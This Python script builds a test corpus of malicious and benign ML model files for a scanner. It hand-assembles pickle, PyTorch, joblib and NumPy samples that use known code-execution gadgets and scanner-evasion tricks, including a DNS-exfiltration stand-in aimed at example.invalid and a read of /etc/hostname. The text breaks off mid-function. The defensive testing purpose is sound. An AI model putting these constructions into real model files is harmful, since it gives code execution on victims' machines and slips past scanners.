"""Generate the model-scanner corpus: malicious samples (one technique each) and benign models.

Nothing here is downloaded; every byte is produced by this script. Payloads are harmless
(``os.system("true")`` and the like) and the files are only ever scanned, never loaded.
The techniques come from public write-ups and from the advisories and issue trackers of
picklescan, modelscan and fickling; each sample names its source.

    python scripts/make_scan_corpus.py OUT_DIR      # writes OUT_DIR/manifest.json too

Needs the test extras (torch, numpy, pandas, scikit-learn, joblib, safetensors, h5py,
onnx); XGBoost and LightGBM samples are added when those are installed.
"""

from __future__ import annotations

import bz2
import gzip
import importlib.util
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

CMD = "true"


@dataclass
class Sample:
    id: str
    path: str
    expect: str  # "malicious" or "benign"
    technique: str
    reference: str = ""


# -- pickle assembly ---------------------------------------------------------------------


def su(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def sb(data: bytes) -> bytes:
    """BINBYTES / SHORT_BINBYTES."""
    return (
        b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))
    ) + data


def g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s0(text: str) -> bytes:
    """STRING (protocol 0)."""
    return b"S" + repr(text).encode() + b"\n"


def call0(module: str, name: str, *args: str) -> bytes:
    """module.name(*args) as a protocol-0 GLOBAL + MARK ... TUPLE + REDUCE."""
    return g(module, name) + b"(" + b"".join(s0(a) for a in args) + b"tR"


class Reduce:
    """An object whose pickle calls ``func(*args)``: how real payloads are written."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def evil(protocol: int = 2) -> bytes:
    return pickle.dumps(Reduce(os.system, CMD), protocol=protocol)


EVIL0 = call0("os", "system", CMD) + b"."


# -- protobuf and binary helpers -------------------------------------------------------


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(field: int, value: bytes | int | str) -> bytes:
    if isinstance(value, int):
        return varint(field << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(field << 3 | 2) + varint(len(raw)) + raw


def gguf(kv: list[tuple[str, int, bytes]], tensors: int = 1, kv_count: int | None = None) -> bytes:
    def s(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    out = b"GGUF" + struct.pack("<IQQ", 3, tensors, len(kv) if kv_count is None else kv_count)
    for key, kind, value in kv:
        out += s(key) + struct.pack("<I", kind) + value
    for i in range(tensors):
        out += s(f"blk.{i}.weight") + struct.pack("<I", 1) + struct.pack("<Q", 8)
        out += struct.pack("<IQ", 0, i * 32)
    out += b"\0" * (-len(out) % 32)
    return out + b"\0" * (32 * tensors)


def gstr(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


# -- zip surgery -----------------------------------------------------------------------


def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def torch_zip_members(path_or_bytes: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(path_or_bytes)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def patch_zip_flags(data: bytes, name: str, flag: int) -> bytes:
    """Set ``flag`` on ``name`` in both its local header and its directory entry."""
    out = bytearray(data)
    raw = name.encode()
    for sig, flag_at, name_len_at, name_at in (
        (b"PK\x03\x04", 6, 26, 30),
        (b"PK\x01\x02", 8, 28, 46),
    ):
        pos = 0
        while (pos := out.find(sig, pos)) >= 0:
            n = struct.unpack("<H", out[pos + name_len_at : pos + name_len_at + 2])[0]
            if bytes(out[pos + name_at : pos + name_at + n]) == raw:
                old = struct.unpack("<H", out[pos + flag_at : pos + flag_at + 2])[0]
                out[pos + flag_at : pos + flag_at + 2] = struct.pack("<H", old | flag)
            pos += 4
    return bytes(out)


def patch_zip_crc(data: bytes, name: str) -> bytes:
    out = bytearray(data)
    raw = name.encode()
    for sig, crc_at, name_len_at, name_at in (
        (b"PK\x03\x04", 14, 26, 30),
        (b"PK\x01\x02", 16, 28, 46),
    ):
        pos = 0
        while (pos := out.find(sig, pos)) >= 0:
            n = struct.unpack("<H", out[pos + name_len_at : pos + name_len_at + 2])[0]
            if bytes(out[pos + name_at : pos + name_at + n]) == raw:
                out[pos + crc_at : pos + crc_at + 4] = b"\xde\xad\xbe\xef"
            pos += 4
    return bytes(out)


def rename_local_header(data: bytes, old: str, new: str) -> bytes:
    """Change only the local header's name (same length): directory and header disagree."""
    assert len(old) == len(new)
    out = bytearray(data)
    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) >= 0:
        n = struct.unpack("<H", out[pos + 26 : pos + 28])[0]
        if bytes(out[pos + 30 : pos + 30 + n]) == old.encode():
            out[pos + 30 : pos + 30 + n] = new.encode()
        pos += 4
    return bytes(out)


def folder_with(name: str, data: bytes) -> Callable[[Path], None]:
    """A model folder holding one file (a SavedModel's ``saved_model.pb``, ...)."""

    def write(path: Path) -> None:
        path.mkdir()
        (path / name).write_bytes(data)

    return write


def tar_bytes(
    members: list[tuple[str, bytes]], links: list[tuple[str, str]] | None = None
) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, target in links or []:
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


# -- the corpus ------------------------------------------------------------------------


class Corpus:
    def __init__(self, out: Path) -> None:
        self.out = out
        self.samples: list[Sample] = []
        (out / "malicious").mkdir(parents=True, exist_ok=True)
        (out / "benign").mkdir(parents=True, exist_ok=True)

    def add(
        self,
        expect: str,
        sid: str,
        name: str,
        data: bytes | Callable[[Path], None],
        technique: str,
        reference: str = "",
    ) -> None:
        path = self.out / expect / f"{sid}_{name}"
        if callable(data):
            data(path)
        else:
            path.write_bytes(data)
        self.samples.append(
            Sample(sid, str(path.relative_to(self.out)), expect, technique, reference)
        )

    def bad(
        self,
        sid: str,
        name: str,
        data: bytes | Callable[[Path], None],
        technique: str,
        ref: str = "",
    ) -> None:
        self.add("malicious", sid, name, data, technique, ref)

    def good(
        self, sid: str, name: str, data: bytes | Callable[[Path], None], technique: str
    ) -> None:
        self.add("benign", sid, name, data, technique)


PS = "https://github.com/mmaitre314/picklescan"
MS = "https://github.com/protectai/modelscan"
FK = "https://github.com/trailofbits/fickling"


def pickle_samples(c: Corpus) -> None:
    c.bad("p01", "os_system_p0.pkl", EVIL0, "GLOBAL os.system + REDUCE, protocol 0", "baseline")
    c.bad("p02", "reduce_p2.pkl", evil(2), "__reduce__ to posix.system, protocol 2", "baseline")
    c.bad("p03", "stack_global_p4.pkl", evil(4), "STACK_GLOBAL, protocol 4 framing", "baseline")
    c.bad("p04", "reduce_p5.pkl", evil(5), "protocol 5", "baseline")
    c.bad("p05", "reduce_p1.pkl", evil(1), "protocol 1 binary opcodes", "baseline")
    c.bad(
        "p06",
        "inst.pkl",
        b"(" + s0(CMD) + b"ios\nsystem\n.",
        "INST opcode imports and calls",
        f"{FK}/pull/108",
    )
    c.bad(
        "p07",
        "obj.pkl",
        b"(" + g("os", "system") + s0(CMD) + b"o.",
        "OBJ opcode calls the class/function after MARK",
        f"{FK}/pull/108",
    )
    c.bad(
        "p08",
        "newobj.pkl",
        b"\x80\x02" + g("subprocess", "Popen") + b"]" + su(CMD) + b"a\x85\x81.",
        "NEWOBJ of a dangerous class",
        "pickletools",
    )
    c.bad(
        "p09",
        "newobj_ex.pkl",
        b"\x80\x04" + su("subprocess") + su("Popen") + b"\x93" + b"]" + su(CMD) + b"a\x85}\x92.",
        "NEWOBJ_EX with kwargs",
        "pickletools",
    )
    memo = (
        b"\x80\x04"
        + su("os")
        + b"q\x00"
        + su("system")
        + b"q\x01"
        + su("torch._utils")
        + b"\x94"
        + su("_rebuild_tensor_v2")
        + b"\x94"
        + b"0000"
        + b"h\x00h\x01\x93"
        + su(CMD)
        + b"\x85R."
    )
    c.bad(
        "p10",
        "memo_put_memoize_confusion.pkl",
        memo,
        "BINPUT/MEMOIZE mix so the memo differs from a naive tracker",
        f"{PS}/issues/14",
    )
    getput = (
        b"\x80\x04"
        + su("os")
        + b"p0\n0"
        + su("system")
        + b"p1\n0"
        + b"g0\ng1\n\x93"
        + su(CMD)
        + b"\x85R."
    )
    c.bad(
        "p11",
        "stack_global_from_memo.pkl",
        getput,
        "STACK_GLOBAL on names fetched from the memo (GET)",
        f"{PS}/issues/22",
    )
    prod = (
        b"\x80\x05"
        + g("numpy", "prod")
        + b"N(Va\nVos\nd\x86b"
        + b"N(Vb\nVsystem\nd\x86b"
        + b"0"
        + g("numpy", "prod.a")
        + b"p0\n"
        + g("numpy", "prod.b")
        + b"p1\n00g0\ng1\n\x93V"
        + CMD.encode()
        + b"\n\x85R."
    )
    c.bad(
        "p12",
        "build_setattr_on_allowed_global.pkl",
        prod,
        "BUILD slot state writes attributes on numpy.prod, then dotted GLOBAL reads them",
        f"{MS}/issues/85",
    )
    c.bad(
        "p13",
        "dotted_name_traversal.pkl",
        b"\x80\x04" + su("torch") + su("os.system") + b"\x93" + su(CMD) + b"\x85R.",
        "dotted qualname walks from a trusted module to os.system",
        "pickle find_class protocol 4",
    )
    c.bad(
        "p14",
        "getattr_import_chain.pkl",
        g("__builtin__", "getattr")
        + b"("
        + call0("__builtin__", "__import__", "os")
        + s0("system")
        + b"tR("
        + s0(CMD)
        + b"tR.",
        "getattr(__import__('os'), 'system')",
        "classic",
    )
    c.bad(
        "p15",
        "setstate_injection.pkl",
        b"\x80\x02"
        + g("collections", "OrderedDict")
        + b")R}"
        + s0("__setstate__")
        + g("os", "system")
        + b"sb"
        + s0(CMD)
        + b"b.",
        "instance __dict__ gets __setstate__, second BUILD calls it",
        "pickle BUILD semantics",
    )
    c.bad(
        "p16",
        "ext_registry.pkl",
        b"\x80\x02\x82\x01(" + s0(CMD) + b"tR.",
        "EXT1 copyreg extension code as import",
        "pickletools",
    )
    c.bad(
        "p17",
        "concatenated_second_pickle.pkl",
        pickle.dumps({"w": [1, 2]}, 2) + evil(2),
        "benign pickle followed by a malicious one (loaders that read several)",
        f"{PS} multiple_pickles",
    )
    c.bad(
        "p18",
        "truncated_after_reduce.pkl",
        EVIL0[:-1],
        "payload runs, then the stream ends without STOP",
        f"{PS} malicious-invalid-bytes",
    )
    c.bad(
        "p19",
        "invalid_opcode_after_reduce.pkl",
        EVIL0[:-1] + b"\xff.",
        "payload runs, then an invalid opcode",
        f"{PS} malicious-invalid-bytes",
    )
    inner = evil(2)
    c.bad(
        "p20",
        "nested_pickle_loads.pkl",
        b"\x80\x03" + g("_pickle", "loads") + sb(inner) + b"\x85R.",
        "pickle.loads of an embedded pickle",
        "GHSA-84r2-jw7c-4r5q",
    )
    c.bad(
        "p21",
        "pickle_in_bytes_value.pkl",
        pickle.dumps({"name": "model", "blob": inner}, 4),
        "malicious pickle stored as a bytes value for the application to load",
        "nested pickles",
    )
    c.bad(
        "p22",
        "py2_builtin_eval.pkl",
        call0("__builtin__", "eval", f"__import__('os').system('{CMD}')") + b".",
        "Python 2 name (__builtin__.eval) mapped by fix_imports",
        "_compat_pickle",
    )
    c.bad(
        "p23",
        "py2_commands_getoutput_inst.pkl",
        b"(" + s0(CMD) + b"icommands\ngetoutput\n.",
        "INST with Python 2 module commands -> subprocess.getoutput",
        "_compat_pickle NAME_MAPPING",
    )
    c.bad(
        "p24",
        "copyreg_reconstructor.pkl",
        g("copy_reg", "_reconstructor")
        + b"("
        + g("subprocess", "Popen")
        + g("__builtin__", "object")
        + b"NtR.",
        "copy_reg._reconstructor builds a dangerous class",
        "_compat_pickle",
    )
    gadgets = [
        (
            "p25",
            "pkgutil_resolve_name",
            g("pkgutil", "resolve_name") + b"(" + s0("os:system") + b"tR(" + s0(CMD) + b"tR.",
            "GHSA-vvpj-8cmc-gx39",
        ),
        (
            "p26",
            "importlib_import_module",
            g("builtins", "getattr")
            + b"("
            + call0("importlib", "import_module", "os")
            + s0("system")
            + b"tR("
            + s0(CMD)
            + b"tR.",
            f"{PS}/pull/74",
        ),
        (
            "p27",
            "runpy_run_code",
            g("runpy", "_run_code") + b"(" + s0(f"import os;os.system('{CMD}')") + b"(dtR.",
            "picklescan blocklist",
        ),
        (
            "p28",
            "timeit",
            call0("timeit", "timeit", f"__import__('os').system('{CMD}')") + b".",
            "GHSA-46h3-79wf-xr6c",
        ),
        (
            "p29",
            "cprofile_run",
            call0("cProfile", "run", f"__import__('os').system('{CMD}')") + b".",
            "GHSA-4675-36f9-wf6r",
        ),
        (
            "p30",
            "pdb_run",
            call0("pdb", "run", f"__import__('os').system('{CMD}')") + b".",
            "picklescan blocklist",
        ),
        (
            "p31",
            "code_interpreter_runsource",
            b"\x80\x04"
            + su("code")
            + su("InteractiveInterpreter.runsource")
            + b"\x93"
            + su("code")
            + su("InteractiveInterpreter")
            + b"\x93)\x81"
            + su(f"__import__('os').system('{CMD}')")
            + b"\x86R.",
            "picklescan code.InteractiveInterpreter.runcode",
        ),
        (
            "p32",
            "torch_bottleneck_run_cprofile",
            b"\x80\x04"
            + su("torch.utils.bottleneck.__main__")
            + su("run_cprofile")
            + b"\x93"
            + su(f"__import__('os').system('{CMD}')")
            + b"}\x86R.",
            "GHSA-4r9r-ch6f-vxmx",
        ),
        (
            "p33",
            "torch_collect_env_run",
            b"\x80\x04" + su("torch.utils.collect_env") + su("run") + b"\x93" + su(CMD) + b"\x85R.",
            "google/saferpickle#18",
        ),
        (
            "p34",
            "numpy_testing_runstring",
            g("numpy.testing._private.utils", "runstring")
            + b"("
            + s0(f"__import__('os').system('{CMD}')")
            + b"(dtR.",
            "picklescan blocklist",
        ),
        (
            "p35",
            "operator_attrgetter",
            g("_operator", "attrgetter")
            + b"("
            + s0("system")
            + b"tR("
            + call0("__builtin__", "__import__", "os")
            + b"tR("
            + s0(CMD)
            + b"tR.",
            "GHSA-955r-x9j8-7rhh",
        ),
        (
            "p36",
            "functools_partial",
            g("functools", "partial") + b"(" + g("os", "system") + s0(CMD) + b"tR)R.",
            "picklescan functools.partial",
        ),
        (
            "p37",
            "asyncio_subprocess_transport",
            b"\x80\x04"
            + su("asyncio.unix_events")
            + su("_UnixSubprocessTransport._start")
            + b"\x93N"
            + su(CMD)
            + b"\x86R.",
            "CVE-2025-10157",
        ),
        (
            "p38",
            "multiprocessing_spawnv_passfds",
            g("multiprocessing.util", "spawnv_passfds")
            + b"("
            + s0("/bin/true")
            + b"("
            + s0("/bin/true")
            + b"t)tR.",
            "google/saferpickle#18",
        ),
        (
            "p39",
            "io_fileio_write",
            call0("_io", "FileIO", "/tmp/securenb-corpus-marker", "w") + b".",
            f"{PS} io_FileIO",
        ),
        (
            "p40",
            "logging_filehandler",
            call0("logging", "FileHandler", "/tmp/securenb-corpus-marker") + b".",
            f"{PS} logging_FileHandler",
        ),
        (
            "p41",
            "shutil_copy",
            call0("shutil", "copy", "/etc/hostname", "/tmp/securenb-corpus-marker") + b".",
            "google/saferpickle#1",
        ),
        (
            "p42",
            "pip_main",
            g("pip", "main") + b"((lp0\n" + s0("--version") + b"atR.",
            "CVE-2025-1716",
        ),
        (
            "p43",
            "webbrowser_open",
            call0("webbrowser", "open", "about:blank") + b".",
            "picklescan blocklist",
        ),
        (
            "p44",
            "ssl_dns_exfiltration",
            g("ssl", "get_server_certificate") + b"((" + s0("example.invalid") + b"I443\nttR.",
            f"{PS} dns_exfiltration",
        ),
        (
            "p45",
            "marshal_function",
            b"\x80\x03"
            + g("types", "FunctionType")
            + g("marshal", "loads")
            + sb(marshal.dumps(compile("None", "<x>", "eval")))
            + b"\x85R}\x86R)R.",
            f"{PS}/pull/74",
        ),
        ("p46", "ctypes_cdll", call0("ctypes", "CDLL", "libc.so.6") + b".", "picklescan blocklist"),
        (
            "p47",
            "uuid_get_command_stdout",
            call0("uuid", "_get_command_stdout", CMD) + b".",
            "GHSA-g38g-8gr9-h9xp",
        ),
        (
            "p48",
            "exec_compile",
            g("__builtin__", "exec")
            + b"("
            + call0("__builtin__", "compile", f"__import__('os').system('{CMD}')", "<x>", "exec")
            + b"tR.",
            "classic",
        ),
        (
            "p49",
            "pydoc_locate",
            call0("pydoc", "locate", "os.system") + b"(" + s0(CMD) + b"tR.",
            "picklescan blocklist",
        ),
        (
            "p50",
            "pandas_read_pickle",
            call0("pandas", "read_pickle", "/tmp/securenb-other.pkl") + b".",
            "picklescan TODO list",
        ),
        (
            "p51",
            "numpy_load_allow_pickle",
            g("numpy", "load") + b"(" + s0("/tmp/securenb-other.npy") + b"NI01\ntR.",
            "picklescan TODO list",
        ),
        (
            "p52",
            "torch_load_nested",
            call0("torch.serialization", "load", "/tmp/securenb-other.pt") + b".",
            "picklescan torch.serialization.load",
        ),
    ]
    for sid, name, data, ref in gadgets:
        c.bad(sid, f"{name}.pkl", data, f"gadget: {name.replace('_', ' ')}", ref)
    dynamic = (
        b"\x80\x04"
        + su("builtins")
        + su("str")
        + b"\x93"
        + sb(b"os")
        + su("ascii")
        + b"\x86R"
        + su("system")
        + b"\x93"
        + su(CMD)
        + b"\x85R."
    )
    c.bad(
        "p53",
        "stack_global_computed_name.pkl",
        dynamic,
        "STACK_GLOBAL on a name computed by an allowlisted call (str(b'os', 'ascii'))",
        "names built on the stack",
    )
    c.bad(
        "p54",
        "reduce_result_popped.pkl",
        EVIL0[:-1] + b"0}.",
        "call result discarded with POP, benign value returned",
        "fickling POP bypass (ModelAudit write-up)",
    )
    c.bad(
        "p55",
        "scanner_tampering.pkl",
        call0("picklescan.scanner", "scan_file_path", "/") + b".",
        "imports a scanner module",
        f"{FK}/pull/249",
    )


def torch_samples(c: Corpus) -> None:
    import torch
    import torch.nn as nn

    torch.manual_seed(0)
    net = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 2))

    def tsave(obj: Any, **kw: Any) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    evil_zip = tsave({"weight": torch.ones(2), "hook": Reduce(os.system, CMD)})
    benign_zip = tsave(net.state_dict())
    c.bad(
        "t01",
        "state_dict_with_payload.pt",
        evil_zip,
        "torch.save of a dict holding a __reduce__ payload",
        "baseline",
    )
    members = torch_zip_members(benign_zip)
    root = members[0][0].split("/")[0]
    c.bad(
        "t02",
        "constants_pkl_member.pt",
        zip_bytes([*members, (f"{root}/constants.pkl", evil(2))]),
        "payload in a second pickle member (constants.pkl), not data.pkl",
        "every pickle member",
    )
    c.bad(
        "t03",
        "wrong_extension.safetensors",
        evil_zip,
        "torch zip named .safetensors",
        "CVE-2025-10155",
    )
    c.bad(
        "t04",
        "flag_bit_encrypted.pt",
        patch_zip_flags(
            evil_zip, f"{torch_zip_members(evil_zip)[0][0].split('/')[0]}/data.pkl", 0x1
        ),
        "encrypted flag bit on data.pkl: zipfile refuses, torch reads",
        "GHSA-w8jq-xcqf-f792",
    )
    eroot = torch_zip_members(evil_zip)[0][0].split("/")[0]
    c.bad(
        "t05",
        "bad_crc.pt",
        patch_zip_crc(evil_zip, f"{eroot}/data.pkl"),
        "wrong CRC on data.pkl: zipfile raises, torch reads",
        "CVE-2025-10156",
    )
    emembers = torch_zip_members(evil_zip)
    dup = [(n, d) for n, d in emembers if n.endswith("data.pkl")] + torch_zip_members(
        tsave({"weight": torch.ones(2)})
    )
    dup = [(n.replace(n.split("/")[0], "archive", 1), d) for n, d in dup]
    c.bad(
        "t06",
        "duplicate_data_pkl.pt",
        zip_bytes(dup),
        "two data.pkl members; readers disagree which one wins",
        "zip parser differential",
    )
    swapped = rename_local_header(evil_zip, f"{eroot}/data.pkl", f"{eroot}/data.xyz")
    c.bad(
        "t07",
        "local_header_name_mismatch.pt",
        swapped,
        "central directory and local header disagree on the member name",
        "GHSA-7q5r-7gvp-wc82",
    )
    prefix = [(f"evil/{n.split('/', 1)[1]}", d) for n, d in emembers] + [
        (n.replace(n.split("/")[0], "archive", 1), d) for n, d in torch_zip_members(benign_zip)
    ]
    c.bad(
        "t08",
        "first_directory_wins.pt",
        zip_bytes(prefix),
        "torch loads <first dir>/data.pkl; the benign archive/ is a decoy",
        "torch PyTorchStreamReader",
    )
    c.bad(
        "t09",
        "pickle_zip_polyglot.pt",
        evil(2) + benign_zip,
        "pickle at the start (torch legacy path runs it) + valid zip at the end",
        f"{PS} pytorch_magic_bypass",
    )
    c.bad(
        "t10",
        "deflated_data_pkl.pt",
        zip_bytes(emembers, zipfile.ZIP_DEFLATED),
        "data.pkl stored deflated (torch reads it, raw readers do not)",
        "zip methods",
    )
    legacy = (
        pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(1001, 2)
        + evil(2)
        + pickle.dumps({}, 2)
        + pickle.dumps([], 2)
    )
    c.bad(
        "t11",
        "legacy_sys_info_payload.pt",
        legacy,
        "legacy torch format: payload in the sys_info pickle (3rd of 5)",
        "torch _legacy_load",
    )
    tar = tar_bytes(
        [
            ("sys_info", pickle.dumps({"little_endian": True}, 2)),
            ("pickle", pickle.dumps({}, 2)),
            ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
            ("tensors", evil(2)),
        ]
    )
    c.bad(
        "t12",
        "legacy_tar_tensors_payload.pt",
        tar,
        "legacy torch tar: payload in the 'tensors' member",
        "torch legacy_load tar",
    )

    c.bad(  # an ordinary TorchScript module is SAFE (b31, b32): the code is what matters
        "t13",
        "torchscript.pt",
        torchscript_from_file("/etc/hostname"),
        "TorchScript archive whose code maps a file (torch.load runs TorchScript code)",
        "CVE-2025-32434",
    )
    c.bad(
        "t14",
        "load_from_bytes_nested_zip.pkl",
        b"\x80\x02" + g("torch.storage", "_load_from_bytes") + sb(evil_zip) + b"\x85R.",
        "torch.storage._load_from_bytes on an embedded malicious torch file",
        "nested pickles",
    )

    c.good("b01", "state_dict.pt", benign_zip, "torch.save(model.state_dict())")
    c.good("b02", "full_module.pt", tsave(net), "torch.save(model) of an nn.Sequential")
    opt = torch.optim.Adam(net.parameters())
    net(torch.ones(3, 4)).sum().backward()
    opt.step()
    c.good(
        "b03",
        "training_checkpoint.pt",
        tsave({"epoch": 3, "model": net.state_dict(), "optimizer": opt.state_dict(), "loss": 0.25}),
        "training checkpoint: model + Adam state + epoch",
    )
    c.good(
        "b04",
        "legacy_format.pt",
        tsave(net.state_dict(), _use_new_zipfile_serialization=False),
        "legacy (pre-1.6) torch format",
    )
    tensors = {
        str(t): torch.ones(3, dtype=t)
        for t in (
            torch.float16,
            torch.bfloat16,
            torch.int8,
            torch.uint8,
            torch.bool,
            torch.complex64,
            torch.int64,
        )
    }
    tensors["sparse"] = torch.eye(3).to_sparse()
    tensors["quantized"] = torch.quantize_per_tensor(torch.ones(2), 0.1, 0, torch.qint8)
    c.good(
        "b05",
        "dtypes_sparse_quantized.pt",
        tsave(tensors),
        "tensors of many dtypes, sparse and quantized",
    )
    cnn = nn.Sequential(
        nn.Conv2d(3, 4, 3),
        nn.BatchNorm2d(4),
        nn.ReLU(),
        nn.AdaptiveAvgPool2d(1),
        nn.Flatten(),
        nn.Linear(4, 2),
    )
    c.good("b06", "cnn_full_module.pt", tsave(cnn), "full CNN module with batch norm buffers")
    c.good(
        "b07",
        "tensor_plain_pickle.pkl",
        pickle.dumps({"w": torch.ones(2, 2)}, 2),
        "pickle.dumps of a tensor (nested torch bytes)",
    )
    from safetensors.torch import save

    c.good(
        "b08",
        "model.safetensors",
        save(net.state_dict(), metadata={"format": "pt"}),
        "safetensors with metadata",
    )


def sklearn_samples(c: Corpus) -> None:
    import joblib
    import numpy as np
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 4))
    y = (X[:, 0] > 0).astype(int)

    def jdump(obj: Any, **kw: Any) -> Callable[[Path], None]:
        return lambda path: joblib.dump(obj, path, **kw)

    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)
    c.good("b09", "pipeline.joblib", jdump(pipe), "scikit-learn Pipeline via joblib.dump")
    c.good(
        "b10",
        "random_forest.pkl",
        pickle.dumps(RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y), 5),
        "RandomForest via pickle protocol 5",
    )
    c.good(
        "b11",
        "hist_gb.joblib",
        jdump(HistGradientBoostingClassifier(max_iter=5).fit(X, y), compress=3),
        "HistGradientBoosting via joblib compress=3 (zlib)",
    )
    df = pd.DataFrame({"num": rng.normal(size=60), "cat": rng.choice(["a", "b", "c"], 60)})
    ct = make_pipeline(
        ColumnTransformer(
            [
                ("n", StandardScaler(), ["num"]),
                ("c", OneHotEncoder(handle_unknown="ignore"), ["cat"]),
            ]
        ),
        LogisticRegression(),
    ).fit(df, y)
    c.good(
        "b12",
        "column_transformer.joblib",
        jdump(ct, compress=("xz", 3)),
        "ColumnTransformer on a DataFrame via joblib xz",
    )
    c.bad(
        "j01",
        "payload_after_array.joblib",
        jdump({"weights": np.arange(1000.0), "hook": Reduce(os.system, CMD)}),
        "joblib: payload after raw array bytes (scanners stop at the array)",
        "joblib NumpyArrayWrapper",
    )
    c.bad(
        "j02",
        "zlib_compressed.joblib",
        jdump({"model": Reduce(os.system, CMD)}, compress=3),
        "joblib compress=3 (zlib) around a payload",
        "compressed wrappers passed as clean",
    )
    c.bad(
        "j03",
        "lzma_compressed.joblib",
        jdump({"model": Reduce(os.system, CMD)}, compress=("lzma", 3)),
        "joblib lzma around a payload",
        "compressed wrappers passed as clean",
    )
    payload = EVIL0
    dtype = (
        b"\x80\x04"
        + g("numpy", "dtype")
        + su("u1")
        + b"\x89\x88\x87R(K\x03"
        + su("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = (
        b"}("
        + su("subclass")
        + g("numpy", "ndarray")
        + su("shape")
        + b"K"
        + bytes([len(payload)])
        + b"\x85"
        + su("order")
        + su("C")
        + su("dtype")
        + dtype[2:]
        + su("allow_mmap")
        + b"\x89u"
    )
    region = (
        b"\x80\x04"
        + g("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b")\x81"
        + state
        + b"b"
        + payload
        + b"."
    )
    c.bad(
        "j04",
        "array_bytes_are_a_pickle.joblib",
        region,
        "joblib array data that plain pickle.load runs as opcodes",
        "parser differential",
    )
    obj = np.array(["x", Reduce(os.system, CMD)], dtype=object)
    c.bad(
        "n01",
        "object_array.npy",
        lambda p: np.save(p, obj, allow_pickle=True),
        "np.save of an object array holding a payload",
        f"{PS} object_array.npy",
    )
    c.bad(
        "n02",
        "pickle_named.npy",
        evil(2),
        "a pickle named .npy (np.load(allow_pickle=True) falls back to pickle)",
        "numpy.load",
    )
    npy = io.BytesIO()
    np.save(npy, obj, allow_pickle=True)
    plain = io.BytesIO()
    np.save(plain, np.arange(3))
    c.bad(
        "n03",
        "member_without_npy_suffix.npz",
        zip_bytes([("weights.npy", plain.getvalue()), ("x", npy.getvalue())]),
        "npz member without .npy suffix (np.load still reads it)",
        "anchors: npz members without .npy",
    )

    c.good(
        "b13", "array.npy", lambda p: np.save(p, rng.normal(size=(10, 10))), "np.save float array"
    )
    c.good(
        "b14",
        "arrays.npz",
        lambda p: np.savez_compressed(p, a=np.arange(10), b=rng.normal(size=5)),
        "np.savez_compressed",
    )
    c.good(
        "b15",
        "strings.npy",
        lambda p: np.save(p, np.array(["a", "bb", None], dtype=object), allow_pickle=True),
        "object array of strings",
    )
    frame = pd.DataFrame(
        {
            "i": range(5),
            "f": rng.normal(size=5),
            "s": list("abcde"),
            "c": pd.Categorical(list("xyxyx")),
            "t": pd.date_range("2024-01-01", periods=5, tz="UTC"),
            "b": [True, False] * 2 + [True],
        }
    )
    c.good("b16", "frame.pkl", lambda p: frame.to_pickle(p), "pandas DataFrame.to_pickle")
    c.good(
        "b17",
        "frame.pkl.gz",
        lambda p: frame.to_pickle(p, compression="gzip"),
        "pandas to_pickle with gzip",
    )
    c.good(
        "b18",
        "array_p2.pkl",
        pickle.dumps(rng.normal(size=(3, 3)), 2),
        "pickle of a NumPy array, protocol 2",
    )
    if importlib.util.find_spec("xgboost"):
        import xgboost

        c.good(
            "b19",
            "xgboost.pkl",
            pickle.dumps(xgboost.XGBClassifier(n_estimators=3).fit(X, y)),
            "XGBClassifier pickled",
        )
    if importlib.util.find_spec("lightgbm"):
        import lightgbm

        c.good(
            "b20",
            "lightgbm.joblib",
            jdump(lightgbm.LGBMClassifier(n_estimators=3, verbose=-1).fit(X, y)),
            "LGBMClassifier via joblib",
        )


def wrapper_samples(c: Corpus) -> None:
    payload = evil(2)
    c.bad(
        "w01",
        "model.pkl.gz",
        gzip.compress(payload),
        "gzip around a pickle (pandas.read_pickle inflates it)",
        "compressed wrappers",
    )
    c.bad(
        "w02",
        "model.pkl.bz2",
        bz2.compress(payload),
